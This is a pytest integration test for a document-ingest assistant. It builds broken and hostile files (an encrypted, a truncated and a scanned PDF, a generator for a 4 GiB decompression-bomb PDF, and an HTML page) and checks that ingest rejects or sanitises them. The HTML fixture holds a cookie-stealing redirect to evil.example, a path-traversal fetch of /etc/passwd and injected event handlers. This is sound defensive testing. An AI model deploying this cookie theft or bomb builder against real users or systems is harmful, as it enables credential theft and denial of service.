"""Hostile and broken files in one real ingest: each bad file ends as a named reason in the
report, the large and odd ones are ingested, the good documents are answerable, and time and
memory stay bounded. Every file is built here, in ``tmp_path``."""

from __future__ import annotations

import random
import resource
import time
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from assistant.core import build_assistant
from assistant.ingest.pipeline import ingest
from assistant.store.chroma import IndexStore

pytestmark = pytest.mark.integration

BOMB_GIB = 4  # what the bomb's one content stream inflates to
GOOD_MINUTES = """MINUTES of a meeting of the Harbour Board held on Tuesday, 4 March 2025.

12. Harbour wall repairs
The Harbour Master reported that the storm in January had damaged the north harbour wall.

RESOLVED that the repair of the north harbour wall be approved at a cost of £412,000, to be
met from the harbour reserve.
"""
GOOD_PDF_TEXT = (
    "Ofsted focused visit to Westmarch children's services, 9 May 2024. Inspectors found that "
    "the average caseload of a social worker in the assessment team was 27 children."
)
HTML_PAGE = """<!DOCTYPE html><html><head><title>Licensing Sub-Committee decision</title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body onload="alert('onload-fired')">
<main><h1>Licensing Sub-Committee decision</h1>
<p>The Sub-Committee granted the premises licence for the Anchor Tavern until 23:00.</p>
<img src="x" onerror="alert('onerror-fired')">
<p><a href="javascript:alert('link-fired')" onclick="steal()">Read the conditions</a></p>
<script>fetch('/file=../../etc/passwd')</script>
</main></body></html>
"""
CP1252_TEXT = (
    "Parish council minutes, 2 June 2024.\n\nThe council’s café on the green will receive "
    "£2,500 for new seating – approved unanimously.\n"
)
UTF16_TEXT = (
    "Town council notes, 8 July 2024.\n\nThe Mayor’s fund raised €3,140 for the food bank.\n"
)


# --- builders -----------------------------------------------------------------------------


def text_pdf(path: Path, pages: list[str]) -> Path:
    """A PDF with one text page per string (fpdf2, core Helvetica font)."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_font("Helvetica", size=11)
    for text in pages:
        pdf.add_page()
        pdf.multi_cell(0, 6, text)
    pdf.output(str(path))
    return path


def encrypted_pdf(path: Path) -> Path:
    from pypdf import PdfReader, PdfWriter

    plain = text_pdf(path.with_suffix(".plain"), ["Confidential exempt minutes."])
    writer = PdfWriter(clone_from=PdfReader(plain))
    writer.encrypt("clerk-only", algorithm="AES-256")
    writer.write(path)
    plain.unlink()
    return path


def truncated_pdf(path: Path) -> Path:
    whole = text_pdf(path.with_suffix(".whole"), ["Agenda item text. " * 80] * 4)
    data = whole.read_bytes()
    whole.unlink()
    path.write_bytes(data[: len(data) // 3])
    return path


def scanned_pdf(path: Path) -> Path:
    """One page holding only a picture (what a scanner produces), no text layer."""
    from fpdf import FPDF
    from PIL import Image

    image = path.with_suffix(".png")
    Image.new("L", (400, 560), 235).save(image)
    pdf = FPDF()
    pdf.add_page()
    pdf.image(str(image), x=0, y=0, w=210)
    pdf.output(str(path))
    image.unlink()
    return path


def bomb_pdf(path: Path, gib: int = BOMB_GIB) -> Path:
    """A one-page PDF whose FlateDecode content stream inflates to ``gib`` GiB of zeros.

    Built in a few MB of memory: after a full flush the compressor starts afresh, so every
    16 MiB block of zeros compresses to the same bytes, written ``gib * 64`` times. The stream
    ends with a valid final block and Adler-32 (of n zero bytes: A = 1, B = n mod 65521)."""
    block = bytes(16 * 1024 * 1024)
    compressor = zlib.compressobj(9)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeat = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = gib * 1024**3 // len(block)
    adler = (((count * len(block)) % 65521) << 16) | 1
    ending = b"\x03\x00" + adler.to_bytes(4, "big")
    length = len(first) + len(repeat) * (count - 1) + len(ending)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
    ]
    offsets: list[int] = []
    with path.open("wb") as out:
        out.write(b"%PDF-1.7\n")
        for number, body in enumerate(objects, start=1):
            offsets.append(out.tell())
            out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        offsets.append(out.tell())
        out.write(b"4 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % length)
        out.write(first)
        for _ in range(count - 1):
            out.write(repeat)
        out.write(ending + b"\nendstream\nendobj\n")
        xref = out.tell()
        out.write(b"xref\n0 5\n0000000000 65535 f \n")
        out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
        out.write(b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref)
    return path


PREMISES = ("Anchor Tavern", "Bell Inn", "Crown Stores", "Dolphin Cafe", "Elm Pharmacy",
            "Fox and Hounds", "Granary Bakery", "Harbour Fish Bar", "Ivy House", "Jubilee Hall")
STREETS = ("Mill Lane", "Quay Street", "Station Road", "Church Walk", "Market Square",
           "Bridge End", "Castle Hill", "Orchard Way", "Kings Parade", "Tanners Row", "Water Lane")


def register_line(n: int) -> str:
    """Page ``n`` of the register: one short line (no wrapping), whose words vary with ``n``."""
    return (f"Entry {n}: {PREMISES[n % len(PREMISES)]}, {STREETS[n % len(STREETS)]}, "
            f"licence LR-{n:05d} renewed.")


def long_pdf(path: Path, pages: int = 2000) -> Path:
    return text_pdf(path, [register_line(n) for n in range(1, pages + 1)])


def build_hostile_corpus(root: Path) -> dict[str, str | None]:
    """Write every hostile and good file under ``root``; returns name → expected reason (None:
    should be ingested). A reason ending in '…' is a prefix."""
    expected: dict[str, str | None] = {}

    def add(name: str, build: Callable[[Path], object], reason: str | None) -> None:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        build(root / name)
        expected[name] = reason

    add("bad/encrypted.pdf", encrypted_pdf, "encrypted PDF (a password is needed to open it)")
    add("bad/truncated.pdf", truncated_pdf, "truncated PDF (the file ends early)…")
    add("bad/zero-bytes.pdf", lambda p: p.write_bytes(b""), "empty file (0 bytes)")
    add("bad/binary-renamed.pdf", lambda p: p.write_bytes(random.Random(6).randbytes(40_000)),
        "not a PDF: the file starts with binary data")
    add("bad/bomb.pdf", bomb_pdf, "decompression bomb: a content stream inflates past the…")
    add("bad/scanned.pdf", scanned_pdf,
        "no text layer (scanned or image-only PDF); OCR is not supported")
    add("bad/not-a-zip.docx", lambda p: p.write_text("This is not a Word file at all."),
        "not a DOCX: the file is not a ZIP package")
    add("large/register-2000-pages.pdf", long_pdf, None)
    add("odd/hostile.html", lambda p: p.write_text(HTML_PAGE), None)
    add("odd/cp1252.txt", lambda p: p.write_bytes(CP1252_TEXT.encode("cp1252")), None)
    add("odd/utf16.txt", lambda p: p.write_bytes(UTF16_TEXT.encode("utf-16")), None)
    add("good/harbour-board-minutes.txt", lambda p: p.write_text(GOOD_MINUTES), None)
    add("good/focused-visit.pdf", lambda p: text_pdf(p, [GOOD_PDF_TEXT]), None)
    return expected


def peak_rss_mb() -> float:
    """Peak resident memory of this process so far (Linux reports KiB)."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def _chunks_of(store: IndexStore, source: str) -> list[tuple[str, dict[str, Any]]]:
    _, texts, metas = store.records()
    return [(text, meta) for text, meta in zip(texts, metas, strict=True)
            if meta["source"] == source]


def test_hostile_corpus(tmp_path: Path, make_settings, embeddings) -> None:
    corpus = tmp_path / "corpus"
    expected = build_hostile_corpus(corpus)
    settings = make_settings(corpus, parse_timeout=60.0, parse_memory_mb=512)
    store = IndexStore(settings, embeddings)
    peak_before = peak_rss_mb()
    started = time.monotonic()
    report = ingest(settings, store=store)
    seconds = time.monotonic() - started
    peak_after = peak_rss_mb()

    failed = dict(report.failed)
    print(f"\ningest of {len(expected)} files: {seconds:.1f} s, {report.chunks} chunks, "
          f"peak RSS {peak_before:.0f} -> {peak_after:.0f} MB")
    for name in sorted(expected):
        print(f"  {name}: {failed.get(name, 'ingested')}")
    for name, reason in expected.items():
        if reason is None:
            assert name not in failed, f"{name} failed: {failed.get(name)}"
        elif reason.endswith("…"):
            assert failed.get(name, "").startswith(reason[:-1]), (name, failed.get(name))
        else:
            assert failed.get(name) == reason, (name, failed.get(name))
    assert len(failed) == sum(r is not None for r in expected.values())
    assert report.files_indexed == sum(r is None for r in expected.values())
    assert store.count() == report.chunks

    # Bounded: the 4 GiB bomb never reached this process. The time is printed, not asserted
    # (speed belongs in benchmarks); the per-file parse timeout is what bounds it.
    assert peak_after < max(peak_before, 1500) + 1000

    # The 2,000-page PDF is all there: every page is in some chunk, and a late page is findable.
    register = _chunks_of(store, "large/register-2000-pages.pdf")
    assert {int(meta["page"]) for _, meta in register} == set(range(1, 2001))
    # The HTML kept its text and none of its script or handlers.
    html_text = " ".join(text for text, _ in _chunks_of(store, "odd/hostile.html"))
    assert "granted the premises licence for the Anchor Tavern" in html_text
    for bad in ("alert(", "document.cookie", "onerror", "onload", "javascript:", "fetch(",
                "<script", "<img"):
        assert bad not in html_text
    cp1252 = " ".join(text for text, _ in _chunks_of(store, "odd/cp1252.txt"))
    assert "The council’s café on the green will receive £2,500" in cp1252
    utf16 = " ".join(text for text, _ in _chunks_of(store, "odd/utf16.txt"))
    assert "The Mayor’s fund raised €3,140 for the food bank." in utf16

    assistant = build_assistant(settings, store=store)
    for question, figure, source in (
        ("How much will the north harbour wall repair cost?", "£412,000",
         "good/harbour-board-minutes.txt"),
        ("What was the average caseload of a social worker in the assessment team?",
         "27 children", "good/focused-visit.pdf"),
        ("Which premises had licence LR-01234 renewed?", "LR-01234",
         "large/register-2000-pages.pdf"),
    ):
        answer = assistant.ask(question)
        assert figure in answer.text, (question, answer.text)
        assert source in {c.passage.source for c in answer.citations}, answer.citations


def test_pages_that_differ_only_in_numbers_keep_their_text(tmp_path: Path) -> None:
    """A register with one entry per page, same wording, different numbers: the entries are the
    content, not a running header."""
    from assistant.ingest.loaders import load_file
    from assistant.ingest.structure import parse_document

    lines = [f"Entry {n}: licence LR-{n:05d} renewed." for n in range(1, 41)]
    doc = load_file(text_pdf(tmp_path / "register.pdf", lines), tmp_path)
    text = "\n".join(section.text for section in parse_document(doc).sections)
    assert "LR-00017" in text


def test_register_pages_of_two_lines_keep_their_text(tmp_path: Path) -> None:
    """The same register, each entry long enough to wrap onto a second line."""
    from assistant.ingest.loaders import load_file
    from assistant.ingest.structure import parse_document

    lines = [f"Register of decisions, entry {n}: the premises licence of the Elm Pharmacy on "
             f"Station Road was renewed under reference LR-{n:05d}." for n in range(1, 41)]
    doc = load_file(text_pdf(tmp_path / "register.pdf", lines), tmp_path)
    assert doc.pages[16].text.count("\n") == 1  # the entry wraps: two lines a page
    text = "\n".join(section.text for section in parse_document(doc).sections)
    assert "entry 17:" in text and "LR-00017" in text
